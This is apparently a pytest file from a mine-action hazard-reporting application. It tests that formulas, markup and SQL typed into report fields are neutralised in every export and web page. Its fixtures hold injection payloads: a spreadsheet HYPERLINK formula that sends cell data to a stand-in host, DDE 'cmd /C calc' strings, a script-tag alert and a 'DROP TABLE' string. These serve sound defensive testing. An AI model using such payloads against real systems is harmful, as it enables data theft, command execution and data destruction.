"""Injection in text fields: formulas, markup and SQL typed into reports stay inert text in
every export (xlsx, csv, html, pdf, GIS csv, audit csv) and in the web pages.

Spreadsheets run a cell that starts with = + - @ as a formula (CSV/DDE injection); exports
write such text so that it is shown, never run (mineaction.core.cells).
"""

from __future__ import annotations

import csv
import warnings
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import load_workbook
from pypdf import PdfReader
from tests.factories import hazard_report, rect

from mineaction.core.cells import FORMULA_START, formula_like
from mineaction.core.reporting import Period
from mineaction.io.reportfiles import write
from mineaction.services import exports, ledger, reporting, users
from mineaction.store.engine import Store
from mineaction.web.app import create_app

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script>'; DROP TABLE hazard; --",
]


def _programme(store: Store) -> None:
    for i, name in enumerate(NAMES):
        x = 0.01 * i
        doc = hazard_report(f"INJ-{i}", f"INJ{i}", polygon=rect(x, 0, x + 0.004, 0.002), name=name)
        ledger.submit(store, doc)
        ledger.approve(store, f"INJ-{i}")


def _csv_cells(paths: list[Path]) -> list[str]:
    out: list[str] = []
    for p in paths:
        with p.open(newline="", encoding="utf-8") as f:
            out += [c for row in csv.reader(f) for c in row]
    return out


def test_report_exports_never_carry_a_formula(sqlite_store: Store, tmp_path: Path) -> None:
    _programme(sqlite_store)
    doc = reporting.generate(sqlite_store, "apmbc-article7", Period.parse("2024"))
    xlsx = write(doc, "xlsx", tmp_path / "r.xlsx")[0]
    wb = load_workbook(xlsx)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if formula_like(cell.value):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    for name in NAMES:  # kept exactly, as text
        assert name in texts, name

    cells = _csv_cells(write(doc, "csv", tmp_path / "r.csv"))
    assert not [c for c in cells if formula_like(c)], [c for c in cells if formula_like(c)]
    for name in NAMES[:4]:
        assert "'" + name in cells, name
    assert NAMES[4] in cells  # not formula-like: untouched

    page = write(doc, "html", tmp_path / "r.html")[0].read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    pdf = write(doc, "pdf", tmp_path / "r.pdf")[0]
    text = " ".join(p.extract_text() for p in PdfReader(pdf).pages)
    assert "HYPERLINK" in text and "DROP TABLE" in text  # printed as text


def test_gis_csv_export_and_audit_csv_neutralise_formulas(
    sqlite_store: Store, tmp_path: Path
) -> None:
    _programme(sqlite_store)
    result = exports.export(sqlite_store, "csv", tmp_path / "gis", layers=["hazards"])
    cells = _csv_cells(result.files)
    assert not [c for c in cells if formula_like(c)]
    assert "'" + NAMES[0] in cells
    text = users.audit_csv(
        [
            {
                "id": 1,
                "at": datetime.now(UTC).isoformat(),
                "actor": "=1+1",
                "action": "@x",
                "entity": "report",
                "entity_id": "-1+cmd|' /C calc'!A0",
                "remote": "+A1*2",
                "details": None,
            }
        ]
    )
    rows = list(csv.reader(text.splitlines()))
    assert rows[1][2:7] == ["'=1+1", "'@x", "report", "'-1+cmd|' /C calc'!A0", "'+A1*2"]
    assert all(not c.startswith(FORMULA_START) for c in rows[1])


def test_web_pages_and_report_downloads_escape_markup(sqlite_store: Store) -> None:
    _programme(sqlite_store)
    users.add_user(sqlite_store, "im", role="im_officer", password="correct horse battery")
    auth = {"Authorization": f"Bearer {users.create_token(sqlite_store, 'im').token}"}
    with TestClient(create_app(sqlite_store.url)) as client:
        for page in ["/hazards/INJ4", "/hazards", "/"]:
            r = client.get(page, headers=auth)
            assert r.status_code == 200, (page, r.status_code)
            assert "<script>alert(1)" not in r.text, page
        assert "&lt;script&gt;alert(1)" in client.get("/hazards/INJ4", headers=auth).text
